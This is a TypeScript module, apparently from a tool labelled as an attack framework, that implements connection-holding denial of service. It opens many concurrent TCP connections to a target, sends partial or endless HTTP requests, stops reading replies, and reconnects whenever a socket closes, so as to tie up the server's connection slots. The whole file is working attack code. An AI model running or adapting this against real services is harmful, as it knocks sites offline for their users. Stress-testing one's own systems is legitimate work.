// Opens connections and keeps them: requests without an end, messages without an end, answers nobody reads.
import { connect, type Socket } from "node:net";
import type { Going, Verb } from "./attack.ts";
import { requestBytes } from "./request-bytes.ts";

type Hold = Verb & { way: "holds" };

/** So many handshakes of TCP at once: the kernel's line of those that wait is not much longer. */
const connectingMax = 100;
const againMs = 200;

/** Resolves when all of them have been opened once. */
export async function hold(verb: Hold, going: Going): Promise<void> {
  const { signal, attack } = going;
  const bytesFor = await requestBytes(verb.request, going);
  const more = verb.behind?.(attack.bytes) ?? Buffer.alloc(0);
  const { promise, resolve } = Promise.withResolvers<void>();
  let next = 0;
  let opened = 0;
  const another = () => {
    if (next >= attack.concurrency || signal.aborted) return;
    const bytes = Buffer.concat([cut(bytesFor(next), verb.sends), more]);
    next += 1;
    keep(bytes, verb, going, () => {
      opened += 1;
      if (opened === attack.concurrency) resolve();
      another();
    });
  };
  for (let i = 0; i < connectingMax; i += 1) another();
  await promise;
}

function cut(bytes: Buffer, sends: Hold["sends"]): Buffer {
  if (sends === "all") return bytes;
  return bytes.subarray(0, sends === "half of the head" ? bytes.length >> 1 : -1);
}

function keep(bytes: Buffer, verb: Hold, going: Going, opened: () => void): Socket {
  const { target, tally, signal } = going;
  const { hostname, port } = new URL(target.url);
  const socket = connect(Number(port), hostname);
  socket.once("connect", () => {
    tally.send(bytes.length);
    socket.write(bytes);
    // What is not read waits at the gateway; only of a request that has no end an answer would say something.
    if (verb.sends === "all" && verb.behind === undefined) socket.pause();
    opened();
  });
  socket.once("data", (chunk) => tally.answer(chunk.toString("latin1", 9, 12)));
  socket.on("data", () => {});
  socket.on("error", (error: NodeJS.ErrnoException) => tally.answer(error.code ?? error.message));
  socket.on("close", () => {
    tally.answer("cut off");
    if (!signal.aborted) setTimeout(keep, againMs, bytes, verb, going, () => {});
  });
  signal.addEventListener("abort", () => socket.destroy());
  return socket;
}
